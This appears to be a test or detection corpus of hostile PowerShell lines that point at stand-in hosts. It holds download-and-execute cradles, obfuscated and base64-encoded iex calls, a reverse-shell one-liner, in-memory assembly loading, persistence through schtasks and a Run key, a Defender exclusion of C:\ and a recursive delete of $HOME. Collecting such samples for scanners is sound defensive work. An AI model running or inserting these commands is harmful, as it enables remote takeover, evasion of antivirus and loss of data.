IEX (New-Object Net.WebClient).DownloadString('http://a.example.test/x.ps1')
$wc = New-Object System.Net.WebClient
$wc.DownloadFile("http://b/x.exe", "$env:TEMP\x.exe")
Start-Process "$env:TEMP\x.exe" -WindowStyle Hidden
iwr http://c -OutFile c.exe; .\c.exe
(iwr -useb http://d).Content | iex
$x = irm http://e; iex $x
& ('i'+'ex') ("{1}{0}" -f 'calc','start-process ')
-join ([char[]](105,101,120)) | % { & $_ "ls" }
[Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('aQBlAHgA')) | iex
$client = New-Object System.Net.Sockets.TCPClient('192.0.2.1',4444);$stream = $client.GetStream();[byte[]]$bytes = 0..65535|%{0};while(($i = $stream.Read($bytes, 0, $bytes.Length)) -ne 0){;$data = (New-Object -TypeName System.Text.ASCIIEncoding).GetString($bytes,0, $i);$sendback = (iex $data 2>&1 | Out-String );$stream.Write($sendbyte,0,$sendbyte.Length);$stream.Flush()};$client.Close()
if ($true) { curl.exe http://f -o f } else { Remove-Item -Recurse -Force $HOME }
function Foo($a) { Get-Content $a | Out-File z.txt }
$s = 'x','e','i'; & ($s[2..0] -join '') 'whoami'
Invoke-Expression ('who' + 'ami' -replace 'who','which')
Start-Process -FilePath "powershell.exe" -ArgumentList "-enc","aQBlAHgAIAAoAGkAdwByACAAaAB0AHQAcAA6AC8ALwB4ACkA"
[System.Reflection.Assembly]::Load([Convert]::FromBase64String($b)).EntryPoint.Invoke($null,$null)
schtasks /create /tn x /tr "calc" /sc onlogon
cmd /c "del /q x & calc" > $null
Add-MpPreference -ExclusionPath "C:\"
$h = @{a=1; b=(iwr z)}
Set-ItemProperty -Path "HKCU:\Software\Run" -Name x -Value "$env:APPDATA\x"
[IO.File]::WriteAllBytes("a", $bytes)
